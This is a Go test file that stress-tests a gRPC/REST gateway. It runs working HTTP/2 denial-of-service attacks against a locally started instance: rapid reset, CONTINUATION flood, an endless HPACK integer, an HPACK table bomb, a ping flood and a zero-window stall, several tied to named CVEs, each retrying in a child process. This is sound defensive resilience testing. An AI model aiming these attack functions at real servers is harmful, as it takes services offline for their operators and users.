package abuse

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"net"
	"os"
	"os/exec"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	lasts     = time.Second
	mebibyte  = 1 << 20
	attackers = 2 // connections of one attack
)

// dial opens an HTTP/2 connection to one of the gateway's ports and discards what comes back.
func dial(address string, secure bool) (net.Conn, *http2.Framer, error) {
	c, err := net.DialTimeout("tcp", address, 5*time.Second)
	if err != nil {
		return nil, nil, err
	}
	if secure {
		config := anyCert()
		config.NextProtos = []string{"h2"}
		c = tls.Client(c, config)
	}
	_ = c.SetDeadline(time.Now().Add(2 * lasts))
	f := http2.NewFramer(c, c)
	if _, err = c.Write([]byte(http2.ClientPreface)); err == nil {
		err = f.WriteSettings()
	}
	if err != nil {
		_ = c.Close()
		return nil, nil, err
	}
	return c, f, nil
}

// attackMain is what a child process does: one attack over several connections. Each time the gateway hangs up it comes back.
func attackMain(name, address string, secure bool) {
	for _, a := range attacks {
		if a.name != name {
			continue
		}
		var all sync.WaitGroup
		for range attackers {
			all.Go(func() {
				for {
					c, f, err := dial(address, secure)
					if err != nil {
						time.Sleep(10 * time.Millisecond)
						continue
					}
					go discard(c)
					a.attack(f)
					_ = c.Close()
				}
			})
		}
		all.Wait()
	}
}

// frames runs an attack in a process of its own, at a lower priority: real attackers do not take the CPU that the gateway and its honest
// callers run on, only what the gateway spends on them.
func frames(t *testing.T, name, address string, secure bool) func(stop <-chan struct{}) {
	return func(stop <-chan struct{}) {
		child := exec.Command("nice", "-n", "15", os.Args[0])
		child.Env = append(os.Environ(), "ABUSE_ATTACK="+name, "ABUSE_ADDRESS="+address, fmt.Sprintf("ABUSE_SECURE=%v", secure))
		child.Stderr = os.Stderr
		if err := child.Start(); err != nil {
			t.Error(err)
			return
		}
		ended := make(chan error, 1)
		go func() { ended <- child.Wait() }()
		select {
		case <-stop:
			_ = child.Process.Kill()
			<-ended
		case err := <-ended:
			t.Errorf("the attack ended by itself: %v", err)
		}
	}
}

func discard(c net.Conn) {
	buf := make([]byte, 64<<10)
	for {
		if _, err := c.Read(buf); err != nil {
			return
		}
	}
}

// request is the header block of a call to either port.
func request(e *hpack.Encoder, block *bytes.Buffer, more ...hpack.HeaderField) []byte {
	block.Reset()
	for _, h := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "localhost"},
		{Name: ":path", Value: "/marketing.v1.LeadService/GetLead"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}, more...) {
		_ = e.WriteField(h) // to memory
	}
	return block.Bytes()
}

// rapidReset opens and resets streams as fast as it can (CVE-2023-44487).
func rapidReset(f *http2.Framer) {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for id := uint32(1); id < 1<<31-2; id += 2 {
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request(e, &block), EndHeaders: true}) != nil ||
			f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}

// rapidResetWithMessage is the same with a whole request each, which reaches the server.
func rapidResetWithMessage(f *http2.Framer) {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for id := uint32(1); id < 1<<31-2; id += 2 {
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request(e, &block), EndHeaders: true}) != nil ||
			f.WriteData(id, true, make([]byte, 5)) != nil || f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}

// continuationFlood never ends its headers (CVE-2024-27316 and its kin).
func continuationFlood(f *http2.Framer) {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request(e, &block)}) != nil {
		return
	}
	for {
		block.Reset()
		for range 100 {
			_ = e.WriteField(hpack.HeaderField{Name: "x-flood", Value: "0123456789", Sensitive: true})
		}
		if f.WriteContinuation(1, false, block.Bytes()) != nil {
			return
		}
	}
}

// hpackPadding sends one integer that never ends (CVE-2023-33953).
func hpackPadding(f *http2.Framer) {
	endless := bytes.Repeat([]byte{0x80}, 16<<10)
	first := append([]byte{0x7f}, endless[1:]...)
	if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first}) != nil {
		return
	}
	for f.WriteContinuation(1, false, endless) == nil {
	}
}

// hpackBomb puts one large header into the table and then names it by one byte, thousands of times a frame.
func hpackBomb(f *http2.Framer) {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	large := hpack.HeaderField{Name: "x-bomb", Value: string(bytes.Repeat([]byte("a"), 3900))}
	for id := uint32(1); id < 1<<31-2; id += 2 {
		first := append([]byte{}, request(e, &block, large)...)
		again := bytes.Repeat([]byte{0x80 | 62}, 8<<10) // the newest entry of the table
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: append(first, again...), EndHeaders: true, EndStream: true}) != nil {
			return
		}
	}
}

// pingFlood asks for answers it does not wait for.
func pingFlood(f *http2.Framer) {
	for f.WritePing(false, [8]byte{}) == nil && f.WriteSettings() == nil {
	}
}

// zeroWindow asks for large answers and never makes room for them.
func zeroWindow(f *http2.Framer) {
	if f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}) != nil {
		return
	}
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for id := uint32(1); id < 200; id += 2 {
		block.Reset()
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/openapi.json"}} {
			_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
		}
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true}) != nil {
			return
		}
	}
	time.Sleep(2 * lasts)
}

var attacks = []struct {
	name   string
	attack func(*http2.Framer)
}{
	{"rapid reset", rapidReset},
	{"rapid reset with message", rapidResetWithMessage},
	{"continuation flood", continuationFlood},
	{"hpack padding", hpackPadding},
	{"hpack bomb", hpackBomb},
	{"ping flood", pingFlood},
	{"zero window", zeroWindow},
}

func TestGRPCPort(t *testing.T) {
	g := start(t, false)
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			g.t = t
			g.during(frames(t, a.name, g.grpc, false), lasts, 64*mebibyte)
		})
	}
}

func TestRESTPort(t *testing.T) {
	g := start(t, true)
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			g.t = t
			g.during(frames(t, a.name, g.http, true), lasts, 64*mebibyte)
		})
	}
}
